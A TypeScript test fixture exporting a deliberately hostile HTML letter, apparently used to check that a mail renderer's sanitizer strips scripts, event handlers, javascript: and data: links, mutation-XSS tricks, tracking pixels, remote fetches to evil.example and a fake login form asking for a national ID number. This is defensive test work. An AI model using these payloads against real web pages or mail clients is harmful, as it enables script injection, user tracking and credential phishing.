/**
 * An HTML letter that tries everything a letter must not do (FIELD-16): run, ask, fetch, hide, pose as the mailbox. For
 * tests; the town does not load it. Each attempt has a word of its own, so that a test can say which one came through.
 *
 * What remains of it when made safe: the heading, the paragraph of `harmless`, the picture as data, the link's text.
 */
export const hostileHtml = `<!doctype html>
<html lang="nb">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/base/">
<title>Viktig melding</title>
<link rel="stylesheet" href="https://evil.example/link.css">
<link rel="dns-prefetch" href="//evil-prefetch.example">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css-background.png) }</style>
<script>document.title = "script-ran"; fetch("https://evil.example/script-inline")</script>
<script src="https://evil.example/script-src.js"></script>
</head>
<body onload="fetch('https://evil.example/body-onload')">
<h1>Viktig melding</h1>
<p class="harmless" style="position:fixed;inset:0;background-image:url('https://evil.example/style-attribute.png')">Denne setningen er <strong>helt vanlig</strong>.</p>
<img alt="ødelagt" src="x" onerror="fetch('https://evil.example/img-onerror')">
<img alt="sporing" width="1" height="1" src="https://evil.example/tracking-pixel.gif">
<img alt="sett" srcset="https://evil.example/srcset.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<img alt="skript i bilde" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(&quot;svg-data&quot;)'/>">
<picture><source srcset="https://evil.example/picture-source.webp"><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>
<svg width="10" height="10" onload="alert('svg-onload')"><use href="https://evil.example/svg-use.svg#a"/><foreignObject><iframe src="https://evil.example/svg-frame"></iframe></foreignObject></svg>
<math><mtext><mglyph><style><img src=x onerror="alert('mutation')"></style></mglyph></mtext></math>
<a href="javascript:alert('link-javascript')">lenke</a>
<a href="JaVa&#09;Script:alert('link-javascript-tab')">lenke</a>
<a href="data:text/html,<script>alert('link-data')</script>">lenke</a>
<a href="vbscript:msgbox('link-vbscript')">lenke</a>
<a href="https://evil.example/link-opener" target="_top" ping="https://evil.example/ping">lenke ut</a>
<form action="https://evil.example/form" method="post"><label>Fødselsnummer <input name="nationalId" autofocus onfocus="alert('input-onfocus')"></label><button formaction="https://evil.example/formaction">Logg inn</button></form>
<iframe src="https://evil.example/iframe" srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="https://evil.example/object.swf"><param name="movie" value="https://evil.example/param.swf"></object>
<embed src="https://evil.example/embed.swf">
<video autoplay poster="https://evil.example/poster.png" src="https://evil.example/video.mp4"><track src="https://evil.example/track.vtt"></video>
<audio autoplay src="https://evil.example/audio.mp3"></audio>
<template><script>alert('template')</script></template>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<table background="https://evil.example/table-background.png"><tr><td background="https://evil.example/td-background.png">celle</td></tr></table>
<div id="app" class="session">Økten din er utløpt. <button onclick="location='https://evil.example/onclick'">Logg inn på nytt</button></div>
<details open ontoggle="alert('ontoggle')"><summary>mer</summary></details>
<marquee onstart="alert('marquee')">rulletekst</marquee>
<!--[if IE]><script src="https://evil.example/conditional.js"></script><![endif]-->
<p style="expression(alert('expression'));behavior:url(https://evil.example/behavior.htc)">stil</p>
<portal src="https://evil.example/portal"></portal>
<p>Siste linje.</p>
</body>
</html>
`
